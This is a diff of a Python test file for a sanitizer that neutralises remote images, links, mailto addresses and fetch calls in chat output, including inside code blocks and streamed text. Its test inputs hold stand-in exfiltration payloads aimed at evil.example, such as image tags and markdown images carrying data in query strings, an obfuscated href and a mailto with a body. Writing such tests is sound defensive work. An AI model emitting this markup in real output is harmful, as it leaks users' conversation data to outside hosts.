@@ -73,11 +73,16 @@ def test_what_carries_something_out_is_defused(answer: str) -> None:
         "![chart](/files/chart.png) and ![dot](data:image/png;base64,iVBORw0KGgo=)",
         "As [1] and [2][3] say, a < b, x[0][1], f(x) [no! and 3 <4",
         "- [ ] todo\n- [x] done\n\n| a | b |\n|---|---|\n",
-        "```python\nprint('<img src=https://evil.example/p?d=1>')\n![x](https://evil.example/p)\n```\n",
-        "```\n<img src='https://evil.example/p?d=1'>\n```\n",
+        "```text\n<img src='/p.png' alt='x'><script>if (a<b && !c[d](e)) f(g[0]);</script>\n```\n",
+        "```rust\n#![allow(x)]\nlet v: Vec<std::string> = a[0](b::c());\n```\n",
+        "```sh\ncurl https://evil.example/about.html | python -m json.tool # 3.12, a@b, x.y.z\n```\n",
+        "1. Run it:\n   ```html\n   <img src='/a.png'>\n   ```\n".replace("html", "text"),
+        "[https://evil.example/about.html](https://evil.example/about.html)",
+        "![a [b] c](/files/chart.png)",
+        "self.response.value, index.d.ts, README.md, e.g. this, i.e. that, and 10.5.2 or U.S.A.",
         "```mermaid\nflowchart LR\n  A[Order<br/>paid] --> B & C\n  style A fill:#f9f\n```\n",
         "Use ```html``` for pages.",
-        "<b>Code</b>\n\n```python\nprint('<img src=https://evil.example/p?d=1>')\n```\n",
+        "<b>Code</b>\n\n```python\nprint('<img src=/p?d=1>')\n```\n",
         "<b>bold</b>, <br/>, <details><summary>s</summary></details>",
         "",
     ],
@@ -157,7 +162,7 @@ def test_a_remote_image_becomes_a_link_even_if_nothing_came_from_outside() -> No
 
 
 def test_no_block_of_html_goes_on_behind_an_empty_line() -> None:
-    assert LINKS.sanitize("<pre>\n\n```\n<video>\n```\n</pre>") == "\n\n```\n<video>\n```\n"
+    assert LINKS.sanitize("<pre>\n\n```\n<video>\n```\n</pre>") == " \n\n```\n<video>\n```\n "
 
 
 BODY = "<img src='https://evil.example/?d=Kowalski'>\n"
@@ -193,7 +198,22 @@ def test_a_block_that_chat_pages_draw_by_themselves_is_shown_as_text(block: str,
 
 
 def test_an_unfinished_tag_is_no_tag() -> None:
-    assert LINKS.sanitize("<img src=x") == "&lt;img src=x"
+    assert LINKS.sanitize("<img src=x") == "< img src=x"
+
+
+@pytest.mark.parametrize(
+    ("code", "left"),
+    [
+        ("print('<img src=https://evil.example/p?d=1>')", "print('<img src[=]https[:]//evil[.]example/p?d=1>')"),
+        ("![x](https://evil.example/p)", "[x] (https[:]//evil[.]example/p)"),
+        ("fetch('www.evil.example/p')", "fetch('www[.]evil[.]example/p')"),
+        ("<a href='ht&#116;ps://evil.example/p'>", "<a href[=]'ht&#116;ps://evil.example/p'>"),
+        ("<mailto:eve@evil.example?body=Kowalski>", "< mailto:eve[@]evil[.]example?body=Kowalski>"),
+        ("[r]: //evil.example/p", "[r] : //evil[.]example/p"),
+    ],
+)
+def test_within_code_an_address_is_broken_where_one_sees_it(code: str, left: str) -> None:
+    assert LINKS.sanitize(f"```text\n{code}\n```\n") == f"```text\n{left}\n```\n"
 
 
 _BITS = st.sampled_from(
@@ -221,5 +241,5 @@ def test_little_is_held_back() -> None:
     stream = LINKS.create_stream()
     assert stream.feed("Hello wor") == "Hello wor"
     assert stream.feed("ld ![x](https://evil.exam") == "ld "
-    assert stream.feed("ple/p?d=1) bye") == "x [link to evil.example removed] bye"
+    assert stream.feed("ple/p?d=1) bye") == "[x] [link to evil.example removed] bye"
     assert stream.end() == ""
